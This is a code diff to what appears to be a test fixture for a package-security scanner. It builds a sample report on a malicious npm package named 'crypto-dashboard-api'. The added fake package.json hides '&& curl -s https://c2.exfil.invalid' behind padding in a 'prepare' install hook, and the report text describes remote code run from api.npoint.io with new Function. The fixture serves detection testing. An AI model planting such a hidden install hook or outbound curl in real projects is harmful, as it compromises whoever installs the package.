@@ -30,12 +30,14 @@ from inspector.model import (
     RunInfo,
     Severity,
     Skipped,
+    SourceView,
     SubmoduleRecord,
     Target,
     ToolInfo,
     TraceStep,
     Verdict,
 )
+from inspector.static.source import make_line
 
 HIDDEN_HOST = "api.npoint.io"
 UNDECLARED_HOST = "c2.exfil.invalid"
@@ -116,7 +118,7 @@ def build_report(hostile: bool = False) -> Report:
         severity=Severity.MEDIUM,
         category=Category.AUTO_RUN,
         path="package.json",
-        line=7,
+        line=5,
         column=5,
         message="npm runs scripts.prepare on install: node server/server.js",
         evidence='"prepare": "node server/server.js"' + bad,
@@ -280,4 +282,20 @@ def build_report(hostile: bool = False) -> Report:
             "remote code execution: data fetched from a JSON-hosting service is run with new Function",
             "a planted decoy secret was read at runtime",
         ),
+        sources=(_package_json_view(autorun.id, bad),),
     )
+
+
+def _package_json_view(finding_id: str, bad: str) -> SourceView:
+    """package.json as the source view shows it; the hostile variant hides attack strings in it."""
+    raw = [
+        "{",
+        '  "name": "crypto-dashboard-api",',
+        '  "scripts": {',
+        '    "start": "node server/server.js",',
+        '    "prepare": "node server/server.js"' + HIDDEN_PAD + "&& curl -s https://" + UNDECLARED_HOST + bad,
+        "  }",
+        "}",
+    ]
+    lines = tuple(make_line(number, text, 5 if number == 5 else None) for number, text in enumerate(raw, 1))
+    return SourceView("package.json", "json", "", 1, len(raw), len(raw), lines, (finding_id,))
